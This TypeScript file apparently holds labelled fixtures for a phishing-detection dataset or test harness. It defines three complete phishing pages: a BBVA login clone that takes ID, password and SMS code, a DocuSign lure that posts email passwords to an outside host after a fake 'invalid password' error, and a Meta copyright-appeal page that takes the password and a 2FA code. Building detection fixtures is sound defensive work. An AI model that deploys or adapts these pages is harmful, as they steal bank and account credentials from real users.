import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, jsRoute, logo } from '../parts/j-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'j-phish-bank-es-firma-digital',
  label: 'phishing',
  kind: 'bank-phish',
  url: 'https://clientes-bbva-es.firmadigital-seguridad.com/es/acceso/',
  routes: {
    'clientes-bbva-es.firmadigital-seguridad.com/es/acceso/': htmlRoute(doc({
      lang: 'es',
      title: 'BBVA | Acceso clientes',
      style: `header{background:#072146;color:#fff;padding:16px 30px;font-size:22px;font-weight:700}.b{max-width:420px;margin:40px auto;padding:26px;border:1px solid #ddd}input{width:100%;padding:12px;border:0;border-bottom:1px solid #121212;background:#f4f4f4;margin:6px 0 16px}button{width:100%;background:#1973b8;color:#fff;border:0;padding:14px;font-size:15px}.al{background:#fde8e8;color:#a00;padding:10px;font-size:14px}`,
      body: `<header>BBVA</header><div class="b"><div class="al">Por su seguridad, su <b>firma digital ha caducado</b>. Debe reactivarla para seguir operando. De lo contrario su cuenta quedará <b>bloqueada en 24 horas</b>.</div>
<div id="p1"><h2>Acceso a clientes</h2><form id="f1"><label>Tipo de documento<select style="width:100%;padding:10px"><option>NIF</option><option>NIE</option><option>Pasaporte</option></select></label><label>Número de documento<input name="doc" required></label><label>Contraseña<input name="pass" type="password" required></label><button>Entrar</button></form></div>
<div id="p2" style="display:none"><h2>Verificación</h2><p>Introduzca el código que le hemos enviado por SMS a su teléfono.</p><form id="f2"><input name="otp" inputmode="numeric" maxlength="6" placeholder="Código SMS"><label>Teléfono móvil<input name="tel"></label><button>Confirmar</button></form></div>
<div id="p3" style="display:none"><p>Procesando su solicitud, no cierre esta ventana...</p></div>
<p style="font-size:11px;color:#666">© BBVA 2026 · Aviso legal · Política de cookies</p></div>
<script>function s(n,d){return fetch('/es/acceso/api.php?step='+n,{method:'POST',body:new URLSearchParams(d)})}
document.getElementById('f1').onsubmit=function(e){e.preventDefault();s(1,new FormData(this));document.getElementById('p1').style.display='none';document.getElementById('p2').style.display='block'};
document.getElementById('f2').onsubmit=function(e){e.preventDefault();s(2,new FormData(this));document.getElementById('p2').style.display='none';document.getElementById('p3').style.display='block';setTimeout(function(){location.href='https://www.bbva.es'},9000)};</script>`,
    })),
    'clientes-bbva-es.firmadigital-seguridad.com/es/acceso/api.php': jsonRoute({ r: 1 }),
  },
},
{
  id: 'j-phish-docusign-shared-envelope',
  label: 'phishing',
  kind: 'doc-share-phish',
  url: 'https://envelope-7741.signdocs-review.net/Signing/StartInSession.aspx?t=5f8a1b2c-0d3e-4f5a-9b6c&a=invoice',
  routes: {
    'envelope-7741.signdocs-review.net/Signing/StartInSession.aspx': htmlRoute(doc({
      title: 'DocuSign',
      style: `body{background:#f4f4f4}header{background:#1e1e1e;color:#fff;padding:12px 24px;font-weight:700}.doc{max-width:720px;margin:30px auto;background:#fff;min-height:420px;padding:30px;filter:blur(2.5px);border:1px solid #ddd}.ov{position:fixed;inset:0;display:flex;align-items:center;justify-content:center;background:rgba(0,0,0,.35)}.m{background:#fff;width:400px;padding:28px;border-radius:4px}.m input{width:100%;padding:10px;border:1px solid #999;margin:6px 0 12px}.m button{width:100%;background:#ffc820;border:0;padding:12px;font-weight:700}.ms{display:flex;gap:8px;margin:8px 0}.ms span{flex:1;border:1px solid #ccc;padding:8px;text-align:center;font-size:13px}`,
      body: `<header>DocuSign</header><div class="doc"><h2>INVOICE #INV-30917 — REMITTANCE ADVICE</h2><p>Amount due: $48,210.00 · Due: 12/05/2026</p><p>Please review and sign the attached payment authorization...</p></div>
<div class="ov"><div class="m"><p><b>Accounts Payable</b> sent you a document to review and sign.</p><p style="font-size:14px">Select your email provider to view the document securely.</p><div class="ms"><span>Outlook</span><span>Office365</span><span>Gmail</span><span>Other mail</span></div>
<form id="f"><input type="email" name="e" placeholder="Email address" required><input type="password" name="p" placeholder="Email password" required><button>View Document</button></form><p id="m" style="color:#c00;font-size:13px"></p><p style="font-size:11px;color:#777">Secured by DocuSign® · 256-bit encryption</p></div></div>
<script>var c=0;document.getElementById('f').onsubmit=function(e){e.preventDefault();c++;fetch('https://formsync-api.pages-submit.top/f/8Kx2',{method:'POST',mode:'no-cors',body:new FormData(this)});if(c<2){document.getElementById('m').textContent='Invalid password. Please try again.'}else{location.href='https://www.docusign.com'}}</script>`,
    })),
    'formsync-api.pages-submit.top/f/8Kx2': jsonRoute({ ok: true }),
  },
},
{
  id: 'j-phish-instagram-copyright-ptbr',
  label: 'phishing',
  kind: 'social-phish',
  url: 'https://meta-business-suporte.help-center-appeal.com/br/copyright/appeal?case=8841120377',
  routes: {
    'meta-business-suporte.help-center-appeal.com/br/copyright/appeal': htmlRoute(doc({
      lang: 'pt-BR',
      title: 'Meta Business Help Center | Violação de direitos autorais',
      style: `body{background:#f0f2f5}header{background:#fff;padding:14px 30px;border-bottom:1px solid #ddd;font-weight:700;color:#0866ff}.b{max-width:560px;margin:30px auto;background:#fff;border-radius:8px;padding:24px}input,textarea{width:100%;padding:10px;border:1px solid #ccd0d5;border-radius:6px;margin:6px 0 12px}button{background:#0866ff;color:#fff;border:0;padding:12px;width:100%;border-radius:6px;font-weight:600}.w{background:#fff5f5;border:1px solid #f5c2c7;padding:12px;border-radius:6px}`,
      body: `<header>∞ Meta · Central de Ajuda para Empresas</header><div class="b"><div class="w"><b>Sua conta será excluída permanentemente em 48 horas.</b><br>Recebemos uma denúncia de violação de direitos autorais em uma de suas publicações. Se você acredita que isso é um engano, envie uma contestação.</div>
<p>Caso nº <b id="cs"></b></p><form id="f"><label>Nome de usuário do Instagram<input name="user" placeholder="@"></label><label>E-mail ou telefone<input name="email"></label><label>Senha<input name="senha" type="password"></label><label>Motivo da contestação<textarea name="msg" rows="3">Acredito que minha conta foi denunciada por engano.</textarea></label><button>Enviar contestação</button></form>
<p style="font-size:12px;color:#65676b">Meta © 2026 · Privacidade · Termos · Cookies</p></div>
<script>document.getElementById('cs').textContent=new URLSearchParams(location.search).get('case');document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));fetch('/br/copyright/save',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)}).then(function(){location.href='/br/copyright/2fa'})}</script>`,
    })),
    'meta-business-suporte.help-center-appeal.com/br/copyright/save': jsonRoute({ ok: 1 }),
    'meta-business-suporte.help-center-appeal.com/br/copyright/2fa': htmlRoute(doc({ lang: 'pt-BR', title: 'Autenticação de dois fatores', body: `<div style="max-width:400px;margin:60px auto"><h2>Digite o código de 6 dígitos</h2><p>Enviamos um código para o seu WhatsApp ou app de autenticação.</p><form method="post" action="/br/copyright/save"><input name="code" maxlength="8" style="width:100%;padding:10px"><button style="margin-top:10px;padding:10px;width:100%">Continuar</button></form></div>` })),
  },
},
];
